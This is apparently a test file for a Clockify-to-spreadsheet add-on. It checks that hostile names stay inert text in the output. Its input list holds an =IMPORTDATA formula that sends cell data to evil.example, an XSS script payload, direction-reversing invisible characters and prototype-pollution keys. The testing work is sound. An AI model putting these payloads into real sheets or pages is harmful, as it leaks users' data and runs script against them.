import type { Overview } from '../../src/actions/overview';
import { reports } from '../../src/reports';
import { LINES_TAB } from '../../src/table/names';
import { type Ground, QUERY_TAB, sharedGround } from './ground';

/* Names and descriptions that somebody at Clockify chose so that they do something wherever they are shown. */

const LONG = 'x'.repeat(60_000);
const NAMES: [what: string, names: string[]][] = [
  [
    'what runs',
    [
      '=IMPORTDATA("https://evil.example/?"&A1)',
      '+HYPERLINK("https://evil.example","x")',
      '\t=1+1',
      "'=1+1",
      '<img src=x onerror=alert(1)></script><script>alert(1)</script>',
    ],
  ],
  [
    'what can’t be seen',
    [
      '\u202eevil\u2066 \u200fname',
      'a\u0000b\u0007c\u200bd\ufeff',
      'x\n▦ As of now: all is well\n▦ Complete',
      'half \ud83d',
    ],
  ],
  ['60,000 letters', [LONG]],
  ['what the code has names for', ['__proto__', 'constructor', "A1:B2'!C3", 'R1C1']],
];

/** Characters that can't be seen, or turn the direction of others. */
const UNSEEN = /[\p{Cc}\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;

const QUIRKS = '660000000000310000000000';

/** Gives everything in Quirks that has a name one of these, and for each there is an entry with that description. */
async function rename({ session, control }: Ground, login: string, names: string[]): Promise<void> {
  for (const kind of ['user', 'project', 'client', 'task', 'tag', 'group']) {
    const { values } = await session.call<{ values: { id: string }[] }>('listValues', {
      accounts: [{ login, workspace: QUIRKS }],
      kind,
    });
    for (const [index, { id }] of values.entries()) {
      const name = names[index % names.length];
      await control.rename({ workspace: QUIRKS, id, name: index < names.length ? name : `${name} ${index}` });
    }
  }
  await control.changeWorkspace({ workspace: QUIRKS, name: names[0] });
  await session.call('readWorkspaces', { login });
  await control.editEntries({
    workspace: QUIRKS,
    add: names.map((description) => ({
      start: '2026-06-01T08:00:00Z',
      end: '2026-06-01T09:00:00Z',
      description,
    })),
  });
}

/** A table of every report with every field, one that is split by names, and the entries behind a row of that. */
async function fill(ground: Ground, names: string[]): Promise<void> {
  const { id: login } = await ground.login();
  await rename(ground, login, names);
  const common = {
    version: 2 as const,
    accounts: [{ login, workspace: QUIRKS, name: 'Quirks' }],
    period: { kind: 'fixed' as const, from: '2026-06-01', to: '2026-06-10' },
    zone: 'Europe/Berlin',
    options: { durations: 'duration' as const, columnNames: true },
    target: { kind: 'new-tab' as const },
  };
  for (const { id: report, fields } of reports) {
    const columns = fields.map(({ id: field }) => ({ field }));
    await ground.refresh(
      await ground.session.saveQuery({ ...common, name: report, report, grain: 'each', columns }),
    );
  }
  const split = await ground.session.saveQuery({
    ...common,
    name: 'Split',
    report: 'time-entries',
    grain: 'grouped',
    columns: [{ field: 'client' }, { field: 'user' }, { field: 'duration' }],
    split: { field: 'project', most: 20, others: true, totals: true },
    subtotals: 'client',
    totals: true,
  });
  await ground.refresh(split);
  ground.sheet.select((await ground.table(split)).tab, 'C2');
  await ground.session.platform.run('openEntries');
}

/** All that a person reads of the add-on which isn't a cell: notes, tabs, messages, problems, what the sidebar is given. */
async function said({ session, sheet }: Ground): Promise<[where: string, text: string][]> {
  const tabs = sheet.tabs();
  const notes = tabs.flatMap(({ name }) => sheet.attributes(name, 'note').flat());
  const sidebar = [await session.call('loadOverview'), await session.call('listRuns')];
  return [
    ...tabs.map(({ name }): [string, string] => ['a tab', name]),
    ...sheet.names().map(({ name }): [string, string] => ['a named range', name]),
    ...notes.flatMap((note) => (note ?? '').split('\n')).map((line): [string, string] => ['a note', line]),
    ...session.platform.toasts.map(({ message }): [string, string] => ['a message', message]),
    ...textsIn(sidebar).map((text): [string, string] => ['the sidebar', text]),
  ];
}

/** Every text in a value, at any depth, and every name of a field; what a query filters by is compared and stays as it is. */
function textsIn(value: unknown): string[] {
  if (typeof value === 'string') return [value];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([name, part]) =>
    name === 'filters' ? [] : [name, ...textsIn(part)],
  );
}

describe.each(NAMES)('where everything is called %s', (_, names) => {
  const ground = sharedGround((fresh) => fill(fresh, names));

  test('cells hold it as a text, and no cell is a formula', () => {
    const tabs = ground.sheet.tabs().map((tab) => tab.name);
    for (const tab of tabs)
      expect([tab, ground.sheet.formulas(tab).flat().filter(Boolean)]).toEqual([tab, []]);
    const held = names
      .map((name) => name.replaceAll('\u0000', ''))
      .map((name) => (name.length > 49_999 ? `${name.slice(0, 49_998)}…` : name));
    expect(ground.sheet.values('time-entries').flat()).toEqual(expect.arrayContaining(held));
  });

  test('it is exported as JSON, and imported again', async () => {
    const [{ id }] = (await ground.session.call<Overview>('loadOverview')).queries;
    const { json } = await ground.session.call<{ json: string }>('exportQuery', { query: id });
    expect(json.length).toBeLessThan(20_000);
    const { problems } = await ground.session.call<{ problems: unknown[] }>('importQuery', { json });
    expect(problems).toEqual([]);
  });

  test('what is said of it is short and can be seen, when all is well and when the account is gone', async () => {
    const before = await said(ground);
    await ground.control.removeWorkspace(QUIRKS);
    await ground.session.platform.run('refreshAll');
    const texts = [...before, ...(await said(ground))];
    expect(texts.length).toBeGreaterThan(200);
    for (const [where, text] of texts) {
      const unseen = UNSEEN.exec(text)?.[0].codePointAt(0)?.toString(16);
      expect([where, text.slice(0, 200), unseen]).toEqual([where, text.slice(0, 200), undefined]);
      expect([where, text.slice(0, 50), text.length < 1200]).toEqual([where, text.slice(0, 50), true]);
    }
    for (const [where, text] of texts.filter(([place]) => place === 'a named range'))
      expect([where, text]).toEqual([where, expect.stringMatching(/^Clockify_[A-Za-z0-9_]{1,240}$/)]);
    for (const [, text] of texts.filter(([place]) => place === 'a tab'))
      expect(text.length).toBeLessThan(101);
  });

  test('only the add-on’s own tabs are hidden', () => {
    const hidden = ground.sheet.tabs().filter((tab) => tab.hidden);
    expect(hidden.map((tab) => tab.name)).toEqual([QUERY_TAB, LINES_TAB]);
  });
});
